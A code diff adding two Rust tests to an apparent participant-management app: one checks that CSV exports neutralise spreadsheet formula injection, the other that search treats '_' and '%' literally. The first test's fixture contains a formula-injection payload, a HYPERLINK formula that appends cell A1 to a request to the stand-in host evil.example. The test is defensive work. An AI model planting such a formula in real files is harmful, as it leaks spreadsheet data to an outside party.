@@ -592,3 +592,103 @@ fn a_renamed_word_document_gets_a_message_wholly_in_the_readers_language() {
         "Bestand: Dit bestand is geen CSV- of Excel-bestand."
     );
 }
+
+#[test]
+fn an_export_never_carries_a_live_formula_and_imports_back_as_it_was() {
+    let (mut store, id) = setup();
+    let csv = "role;first name;last name;email;phone;department\r\n\
+               mentee;\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"klik\"\")\";@SUM(1+1);evil@example.be;+32 470 12 34 56;-2+3\r\n";
+    import_csv(&mut store, id, csv);
+    let rows = import::export_rows(&store, id, "en").unwrap();
+    let bytes = klik::tabular::write_csv(&rows);
+    let text = String::from_utf8_lossy(&bytes).into_owned();
+    assert!(text.contains("\"'=HYPERLINK("), "{text}");
+    assert!(text.contains(";'@SUM(1+1);"), "{text}");
+    assert!(text.contains(";'-2+3"), "{text}");
+    assert!(
+        text.contains(";+32 470 12 34 56;"),
+        "a phone number stays as it is: {text}"
+    );
+
+    // LibreOffice, as an officer would open the file: text, never a formula.
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("export.csv");
+    std::fs::write(&file, &bytes).unwrap();
+    let profile = format!(
+        "-env:UserInstallation=file://{}/profile",
+        dir.path().display()
+    );
+    let converted = std::process::Command::new("soffice")
+        .args([
+            profile.as_str(),
+            "--headless",
+            "--infilter=CSV:59,34,76,1",
+            "--convert-to",
+            "xlsx",
+            "--outdir",
+        ])
+        .arg(dir.path())
+        .arg(&file)
+        .output()
+        .expect("LibreOffice (soffice) must be installed");
+    assert!(converted.status.success(), "{converted:?}");
+    let xlsx = std::fs::read(dir.path().join("export.xlsx")).unwrap();
+    // Read back as LibreOffice wrote it: the name is text, apostrophe and all.
+    let table = klik::tabular::read(&xlsx, None).unwrap();
+    assert_eq!(
+        table.rows[1].cells[1], "'=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")",
+        "{:?}",
+        table.rows
+    );
+    use calamine::Reader;
+    let mut book = calamine::open_workbook_auto_from_rs(std::io::Cursor::new(xlsx)).unwrap();
+    let first = book.sheet_names()[0].clone();
+    let formulas = book.worksheet_formula(&first).unwrap();
+    assert!(
+        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+        "no cell is a formula: {:?}",
+        formulas.used_cells().collect::<Vec<_>>()
+    );
+
+    // Imported again, every value is what it was.
+    let preview = import::preview(&store, id, &bytes, None).unwrap();
+    assert!(preview.is_clean());
+    assert_eq!(
+        preview.summary().unchanged,
+        1,
+        "{:?}",
+        preview.rows[0].changed_fields
+    );
+}
+
+#[test]
+fn search_finds_an_underscore_and_a_percent_as_typed() {
+    let (mut store, id) = setup();
+    import_csv(
+        &mut store,
+        id,
+        "role;first name;last name;email\r\nmentee;An;De Smet;an_de@x.be\r\nmentee;Anne;Dekker;anxde@x.be\r\nmentee;Bo;Honderd%;bo@x.be\r\nmentee;Bob;Honderdje;bob@x.be\r\n",
+    );
+    let found = |search: &str| -> Vec<String> {
+        participant::page(
+            &store,
+            id,
+            &Query {
+                search: search.into(),
+                limit: 50,
+                ..Query::default()
+            },
+        )
+        .unwrap()
+        .rows
+        .into_iter()
+        .map(|p| p.enrolment.email)
+        .collect()
+    };
+    assert_eq!(
+        found("an_de"),
+        ["an_de@x.be"],
+        "the underscore is no wildcard"
+    );
+    assert_eq!(found("honderd%"), ["bo@x.be"], "nor is the percent sign");
+}
